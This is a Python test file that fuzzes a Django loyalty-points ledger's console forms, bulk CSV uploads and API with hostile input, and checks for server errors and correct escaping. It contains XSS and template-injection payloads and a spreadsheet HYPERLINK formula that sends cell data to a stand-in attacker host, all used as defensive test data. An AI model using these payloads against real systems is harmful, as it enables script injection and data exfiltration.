"""Hostile input: Hypothesis throws huge and overflowing numbers, unicode, control characters,
NUL bytes and HTML/JS at every console form and API body. Never a 500, never a write from a
refused request, and markup is escaped wherever it is shown."""

import json

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ledger import services
from ledger.models import BulkBatch
from ledger.selectors import ledger_discrepancies
from ledger.services import Actor
from tests.factories import AccountFactory, api_client, operator

pytestmark = pytest.mark.django_db
EXAMPLES = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=list(HealthCheck),
    derandomize=True,
)

MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg onload=alert(1)>",
    "{{ 7*7 }}{% debug %}",
    "javascript:alert(1)",
]
text = st.one_of(
    st.text(max_size=300),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=50),
    st.sampled_from(MARKUP + ["\x00", "a\x00b", "\u202e\u200b", "\r\n\t\x1b[31m", "𝕏" * 300]),
    st.text(alphabet="\x00\x01\x07\x1f\x7f<>&'\"", min_size=1, max_size=20),
)
numbers = st.one_of(
    st.integers(),
    st.sampled_from([0, -1, 2**31 - 1, 2**31, -(2**31), -(2**31) - 1, 2**63, -(2**63) - 1, 10**40]),
)
json_value = st.one_of(
    text,
    numbers,
    st.floats(allow_nan=True),
    st.booleans(),
    st.none(),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)
form_value = st.one_of(text, numbers.map(str), st.sampled_from(["", " ", "1e9", "0x10", "٣"]))


@pytest.fixture
def target(program, reasons):
    account = AccountFactory(program=program, email="fuzz@example.com")
    event = services.adjust_points(
        account=account, points=1000, reason=reasons["REWARD"], actor=Actor.system()
    ).event
    manager = operator("manager")
    console = Client(raise_request_exception=True)
    console.force_login(manager)
    _, key = api_client("fuzz", "read,write", rate=10**9)
    api = Client(
        raise_request_exception=True, HTTP_AUTHORIZATION=f"Bearer {key}", HTTP_X_API_KEY=key
    )
    return {"account": account, "event": event, "console": console, "api": api, "reasons": reasons}


def ok(response) -> None:
    assert response.status_code < 500, response.content[:500]


@given(
    data=st.fixed_dictionaries(
        {},
        optional={
            "reason": st.one_of(form_value, st.just("1")),
            "amount": form_value,
            "history_title": form_value,
            "note": form_value,
            "visible_to_customer": form_value,
            "allow_negative": form_value,
            "token": st.one_of(form_value, st.uuids().map(str)),
        },
    )
)
@EXAMPLES
def test_the_adjustment_forms_never_fail(target, data):
    account, console = target["account"], target["console"]
    if data.get("reason") == "1":
        data["reason"] = str(target["reasons"]["REWARD"].pk)
    for name in ("adjustment-preview", "adjustment-create"):
        ok(
            console.post(
                f"/accounts/{account.pk}/adjustments{'/preview' * (name == 'adjustment-preview')}",
                data,
            )
        )
        ok(console.post(f"/accounts/{account.pk}/adjustments", data, HTTP_HX_REQUEST="true"))


@given(code=form_value, label=form_value, sign=form_value, flag=form_value)
@EXAMPLES
def test_the_reason_forms_never_fail(target, code, label, sign, flag):
    console, reason = target["console"], target["reasons"]["REWARD"]
    ok(console.post("/reasons/", {"new-code": code, "new-label": label, "new-sign": sign}))
    ok(
        console.post(
            f"/reasons/{reason.pk}/",
            {f"reason-{reason.pk}-label": label, f"reason-{reason.pk}-affects_lifetime": flag},
        )
    )
    ok(console.post(f"/reasons/{reason.pk}/active", {"active": flag}))


@given(q=form_value, offset=form_value, cursor=form_value)
@EXAMPLES
def test_search_and_history_pages_never_fail(target, q, offset, cursor):
    console, account = target["console"], target["account"]
    ok(console.get("/", {"q": q, "offset": offset}))
    ok(console.get("/", {"q": q}, HTTP_HX_REQUEST="true"))
    ok(console.get(f"/accounts/{account.pk}/", {"cursor": cursor}))


@given(
    name=text,
    content=st.one_of(
        text.map(lambda t: f"email,points,reason,note\nfuzz@example.com,5,REWARD,{t}\n"),
        text.map(lambda t: f"email,points,reason\n{t},{t},{t}\n"),
        st.binary(max_size=200).map(lambda b: b.decode("latin-1")),
    ),
)
@EXAMPLES
def test_bulk_uploads_never_fail(target, name, content):
    console = target["console"]
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile((name or "x")[:100] + ".csv", content.encode("utf-8", "replace"))
    ok(console.post("/bulk/", {"file": upload}))


def api_bodies(account, event) -> dict:
    """path → a strategy for its JSON body."""
    loose = st.dictionaries(st.text(max_size=30), json_value, max_size=4)
    native = st.fixed_dictionaries(
        {},
        optional={
            "reason": st.one_of(json_value, st.just("REWARD")),
            "points": json_value,
            "note": json_value,
            "history_title": json_value,
            "allow_negative": json_value,
            "visible_to_customer": json_value,
        },
    )
    square_adjust = st.fixed_dictionaries(
        {
            "adjust_points": st.one_of(
                json_value,
                st.fixed_dictionaries({"points": json_value}, optional={"reason": json_value}),
            ),
            "idempotency_key": json_value,
        },
        optional={"allow_negative_balance": json_value},
    )
    return {
        f"/api/v1/accounts/{account.pk}/adjustments/preview": native,
        f"/api/v1/accounts/{account.pk}/adjustments": native,
        f"/api/v1/events/{event.pk}/reverse": st.one_of(
            loose, st.fixed_dictionaries({"note": json_value, "allow_negative": json_value})
        ),
        f"/v2/loyalty/accounts/{account.pk}/adjust": square_adjust,
        f"/v2/loyalty/accounts/{account.pk}/accumulate": st.fixed_dictionaries(
            {
                "accumulate_points": st.one_of(
                    json_value,
                    st.fixed_dictionaries({"points": json_value, "order_id": json_value}),
                ),
                "location_id": json_value,
                "idempotency_key": json_value,
            }
        ),
        "/v2/loyalty/accounts": st.fixed_dictionaries(
            {
                "loyalty_account": st.one_of(
                    json_value,
                    st.fixed_dictionaries(
                        {
                            "program_id": st.one_of(json_value, st.just("main")),
                            "mapping": st.fixed_dictionaries({"phone_number": json_value}),
                            "customer_id": json_value,
                        }
                    ),
                ),
                "idempotency_key": json_value,
            }
        ),
        "/v2/loyalty/accounts/search": st.fixed_dictionaries(
            {
                "query": st.one_of(
                    json_value,
                    st.fixed_dictionaries(
                        {"mappings": st.lists(st.fixed_dictionaries({"phone_number": json_value}))}
                    ),
                    st.fixed_dictionaries({"customer_ids": st.lists(json_value, max_size=3)}),
                ),
                "limit": json_value,
                "cursor": json_value,
            }
        ),
        "/v2/loyalty/events/search": st.fixed_dictionaries(
            {
                "query": st.one_of(json_value, st.just({"filter": {}})),
                "limit": json_value,
                "cursor": json_value,
            }
        ),
        "/v2/loyalty/programs/main/calculate": st.fixed_dictionaries(
            {
                "transaction_amount_money": st.one_of(
                    json_value,
                    st.fixed_dictionaries({"amount": json_value, "currency": json_value}),
                ),
                "order_id": json_value,
                "loyalty_account_id": json_value,
            }
        ),
        "/api/v2/points/adjust": st.fixed_dictionaries(
            {
                "customer_email": st.one_of(json_value, st.just("fuzz@example.com")),
                "point_adjustment_amount": json_value,
            },
            optional={
                "customer_id": json_value,
                "apply_adjustment_to_points_earned": json_value,
                "history_title": json_value,
                "visible_to_customer": json_value,
                "reason": json_value,
            },
        ),
    }


@given(data=st.data())
@settings(
    max_examples=100, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True
)
def test_every_api_body_is_answered_without_a_server_error(target, data):
    account, api = target["account"], target["api"]
    bodies = api_bodies(account, target["event"])
    path = data.draw(st.sampled_from(sorted(bodies)))
    body = data.draw(bodies[path])
    key = data.draw(
        st.one_of(st.uuids().map(str), text.filter(lambda t: "\n" not in t and "\r" not in t))
    )
    raw = data.draw(st.booleans())
    payload = (
        json.dumps(body) if not raw else data.draw(st.one_of(text, st.just("{"), st.just("[]")))
    )
    ok(api.post(path, payload, content_type="application/json", HTTP_IDEMPOTENCY_KEY=key or "k"))
    assert ledger_discrepancies(accounts=account.__class__.objects.filter(pk=account.pk)) == []


@given(
    params=st.dictionaries(
        st.sampled_from(
            [
                "q",
                "limit",
                "cursor",
                "program",
                "account",
                "type",
                "source",
                "reason",
                "created_after",
                "created_before",
                "customer_email",
                "customer_id",
                "phone_number",
                "with_history",
            ]
        ),
        form_value,
        max_size=4,
    )
)
@EXAMPLES
def test_every_api_query_is_answered_without_a_server_error(target, params):
    api, account = target["api"], target["account"]
    for path in (
        "/api/v1/accounts",
        f"/api/v1/accounts/{account.pk}/events",
        "/api/v1/events",
        "/api/v1/reasons",
        "/api/v2/customers",
    ):
        ok(api.get(path, params))


# --- Markup is shown as text -------------------------------------------------------------------


PAYLOAD = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def test_markup_in_titles_notes_and_names_is_escaped_everywhere_it_is_shown(target, reasons):
    account, console = target["account"], target["console"]
    account.first_name = PAYLOAD
    account.save()
    services.adjust_points(
        account=account,
        points=5,
        reason=reasons["REWARD"],
        history_title=PAYLOAD,
        note=PAYLOAD,
        actor=Actor.system(),
    )
    services.add_reason(
        program=account.program,
        code="XSS",
        label=PAYLOAD,
        sign=1,
        affects_lifetime=False,
        actor=Actor.of_operator(operator("manager")),
    )
    pages = [
        console.get(f"/accounts/{account.pk}/"),
        console.get("/", {"q": account.email}),
        console.get("/", {"q": account.email}, HTTP_HX_REQUEST="true"),
        console.get("/reasons/"),
    ]
    for page in pages:
        assert page.status_code == 200
        assert "<script>alert" not in page.text and "<img src=x" not in page.text
        assert "&lt;script&gt;alert" in page.text
    assert pages[0].text.count("&lt;script&gt;alert") >= 3  # name, title, note


def test_a_nul_byte_in_a_bulk_file_or_its_name_is_refused_with_a_message(target):
    """PostgreSQL cannot store NUL in text: this was a 500 on upload before."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = b"email,points,reason,note\nfuzz@example.com,5,REWARD,a\x00b\n"
    response = target["console"].post("/bulk/", {"file": SimpleUploadedFile("n\x00ul.csv", data)})

    assert response.status_code == 302
    batch = BulkBatch.objects.get()
    assert batch.status == BulkBatch.Status.INVALID
    assert "NUL byte (line 2)" in batch.errors[0]["message"]
    assert "\x00" not in batch.filename + batch.content


def test_a_formula_in_a_bulk_file_is_inert_text_in_the_error_report(target):
    """The error report is an HTML page, not a spreadsheet: a formula in the file comes back as
    escaped text. (The CSV export, on another branch, must neutralise =, +, -, @ itself.)"""
    from django.core.files.uploadedfile import SimpleUploadedFile

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    quoted = formula.replace('"', '""')
    upload = SimpleUploadedFile(
        "formula.csv", f'customer_id,points,reason\n"{quoted}",5,REWARD\n'.encode()
    )
    response = target["console"].post("/bulk/", {"file": upload}, follow=True)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in response.text
    assert 'href="http://evil' not in response.text
    assert BulkBatch.objects.get().status == BulkBatch.Status.INVALID
